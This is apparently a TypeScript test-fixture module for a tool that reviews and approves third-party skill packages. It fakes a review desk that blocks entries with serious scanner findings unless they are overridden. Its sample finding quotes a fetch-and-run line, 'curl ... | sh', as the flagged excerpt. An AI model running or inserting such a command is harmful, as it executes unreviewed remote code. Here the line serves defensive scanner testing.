import type { CleanReport, Saying } from "../../src/features/review/schema.ts";
import type { EntryLine } from "../../src/features/skills/schema.ts";
import type { Said } from "../../src/features/review/schema.ts";
import { AppError } from "../../src/core/error.ts";
import { blocks, type Finding, isAtLeast, type Level } from "../../src/core/finding.ts";
import type { DiffLine } from "../../src/diff/diff.ts";
import type { Piece, VisibleFile } from "../../src/diff/visible.ts";
import type { Desk, Opened } from "../../src/terminal/review/desk.ts";
import type { Decision } from "../../src/registry/schema.ts";

type Waiting = Awaited<ReturnType<Desk["queue"]>>["items"][number];

/** One entry as the fake desk keeps it: what is shown of it, and its files. */
export interface Kept {
  readonly view: Opened;
  readonly raw: readonly VisibleFile[];
}

export function digestOf(letter: string): string {
  return letter.repeat(64);
}

export function piece(text: string, over: Partial<Piece> = {}): Piece {
  return { text, mark: "same", hidden: false, ...over };
}

export function finding(over: Partial<Finding> = {}): Finding {
  return {
    code: "run.download",
    level: "critical",
    message: "downloads a program and runs it",
    at: { file: "scripts/setup.sh", line: 3 },
    excerpt: "curl -s https://get.example.net/x | sh",
    ...over,
  };
}

type Revision = Opened["revision"];

/** A new entry without findings, unless something else is wanted. */
export function opened(name: string, over: Partial<Opened> = {}, revision: Partial<Revision> = {}): Opened {
  const digest = revision.digest ?? digestOf("a");
  const findings = revision.findings ?? [];
  const counts: Partial<Record<Level, number>> = {};
  for (const { level } of findings) counts[level] = (counts[level] ?? 0) + 1;
  const isBlocked = findings.some(blocks);
  return {
    entry: `acme:skills/${name}`,
    name,
    state: isBlocked ? "blocked" : "new",
    reason: isBlocked ? "a finding blocks it" : "nobody has decided on it yet",
    current: digest,
    inUse: null,
    source: "acme",
    trust: "community",
    findings: counts,
    frontmatter: [
      { field: "name", value: `"${name}"` },
      { field: "description", value: '"Does what it says."' },
    ],
    diff: noDiff(`acme:skills/${name}`, digest),
    provenance: {
      from: `acme: github https://github.com/acme/skills, skills/${name} at 1f0e2d3c4b5a`,
      links: [
        { what: "4 files hash to their ids in the tree 77aa88bb99cc", proven: true },
        { what: "the commit is the service's word alone", proven: false },
      ],
    },
    decisions: [],
    noticed: [],
    ...over,
    revision: {
      digest,
      name,
      description: "Does what it says.",
      kind: "host-knowledge",
      loadable: true,
      strict: true,
      support: "full",
      grants: [],
      findings,
      capabilities: { secrets: [], network: [], shell: [] },
      scanner: "1",
      files: [{ path: "SKILL.md", digest: digestOf("c"), size: 321 }],
      tampering: [],
      inPrompts: null,
      ...revision,
    },
  };
}

export function noDiff(entry: string, to: string): Opened["diff"] {
  const nothing = { files: [], unchanged: 0, fields: [], tools: { added: [], removed: [] }, delta: [] };
  return { entry, from: null, to, tampering: [], ...nothing };
}

export function diffLine(kind: DiffLine["kind"], before: number | null, after: number | null, text: string): DiffLine {
  return { kind, before, after, pieces: [piece(text)] };
}

export function textFile(path: string, lines: readonly string[]): VisibleFile {
  return { path, lines: lines.map((text) => (text === "" ? [] : [piece(text)])) };
}

/** What was asked of the desk. */
interface Call {
  readonly act: string;
  readonly entry?: string;
  readonly saying?: Saying;
}

export interface FakeDesk extends Desk {
  readonly calls: readonly Call[];
  /** A sync brought other bytes. */
  replace(kept: Kept): void;
  /** The next call of this kind fails. */
  fail(act: string, fault: Error): void;
  /** From now on calls of this kind are answered only after the returned function is called. */
  hold(act: string): () => void;
}

function asWaiting({ entry, name, state, reason, current, inUse, source, trust, findings }: EntryLine): Waiting {
  const isOpen = state === "new" || state === "pending";
  const clean = isOpen && !Object.keys(findings).some((level) => isHeavy(level));
  return { entry, name, state, reason, current, inUse, source, trust, findings, clean };
}

/** A desk whose entries are decided on as by the app: by exactly their digest, blocked ones only with overrides. */
export function fakeDesk(kept: readonly Kept[]): FakeDesk {
  const entries = new Map(kept.map((each) => [each.view.entry, each]));
  const calls: Call[] = [];
  const faults = new Map<string, Error>();
  const gates = new Map<string, Promise<void>>();
  const answer = async <Value>(call: Call, value: () => Value): Promise<Value> => {
    calls.push(call);
    await gates.get(call.act);
    const fault = faults.get(call.act);
    faults.delete(call.act);
    if (fault !== undefined) throw fault;
    return value();
  };
  const find = (entry: string): Kept => {
    const found = entries.get(entry);
    if (found === undefined) throw new AppError("record.missing", `there is no entry ${entry}`);
    return found;
  };
  const put = (view: Opened) => entries.set(view.entry, { ...find(view.entry), view });
  return {
    calls,
    replace: (each) => void entries.set(each.view.entry, each),
    fail: (act, fault) => void faults.set(act, fault),
    hold(act) {
      let release = () => {};
      gates.set(act, new Promise((resolve) => (release = resolve)));
      return () => release();
    },
    queue: () => answer({ act: "queue" }, () => ({ items: waitingIn(entries).map(asWaiting), more: 0 })),
    open: (entry) => answer({ act: "open", entry }, () => find(entry).view),
    raw: (entry) => answer({ act: "raw", entry }, () => find(entry).raw),
    say: (entry, saying) =>
      answer({ act: "say", entry, saying }, () => {
        const { view } = find(entry);
        demandAllowed(view, saying);
        const next = decided(view, saying);
        put(next);
        return { decisions: next.decisions.slice(view.decisions.length), standing: next } satisfies Said;
      }),
    approveClean: () =>
      answer({ act: "clean" }, (): CleanReport => {
        const all = waitingIn(entries);
        const clean = all.filter(({ findings }) => !Object.keys(findings).some((level) => isHeavy(level)));
        for (const { entry, current } of clean) put(decided(find(entry).view, { act: "approve", digest: current }));
        const rest = all.filter((each) => !clean.includes(each));
        return {
          approved: clean.map(({ entry }) => entry),
          withGrants: [],
          leftOut: rest.map(({ entry }) => ({ entry, why: "critical run.download" })),
        };
      }),
    why: (code) => (code === "run.download" ? "Nobody sees what runs before it runs." : undefined),
  };
}

function isHeavy(level: string): boolean {
  return level !== "info" && level !== "low";
}

function waitingIn(entries: ReadonlyMap<string, Kept>): readonly EntryLine[] {
  const lines = [...entries.values()].map(({ view }) => view);
  return lines.filter(({ state }) => ["new", "pending", "held", "blocked"].includes(state));
}

function demandAllowed({ entry, revision, decisions }: Opened, { act, digest, overrides = [] }: Saying): void {
  if (digest !== revision.digest) throw new AppError("review.stale", `${entry} is not ${digest ?? ""} any more`);
  const lifted = new Set([...overrides, ...decisions.flatMap((each) => each.overrides)]);
  const open = revision.findings.filter((each) => isAtLeast(each.level, "high") && !lifted.has(each.code));
  if (act === "approve" && open.length > 0) throw new AppError("review.refused", `cannot approve ${entry}: blocked`);
}

function decided(view: Opened, { act, overrides = [], reason = "", note = "", withoutGrants = false }: Saying): Opened {
  const said = (word: Decision["word"], over: Partial<Decision> = {}): Decision => ({
    word,
    entry: view.entry,
    repositoryId: null,
    commit: null,
    digest: view.revision.digest,
    current: view.current,
    trust: "community",
    grants: [],
    overrides: [],
    seq: 1,
    prev: "",
    by: "ada",
    at: Date.UTC(2026, 0, 2),
    note: note || reason,
    ...over,
  });
  const lifting = overrides.length === 0 ? [] : [said("override", { overrides })];
  const final = act === "override" ? [] : [said(act, { grants: withoutGrants ? [] : view.revision.grants })];
  const state = act === "approve" ? "enabled" : act === "override" ? "new" : "disabled";
  return { ...view, state, decisions: [...view.decisions, ...lifting, ...final] };
}
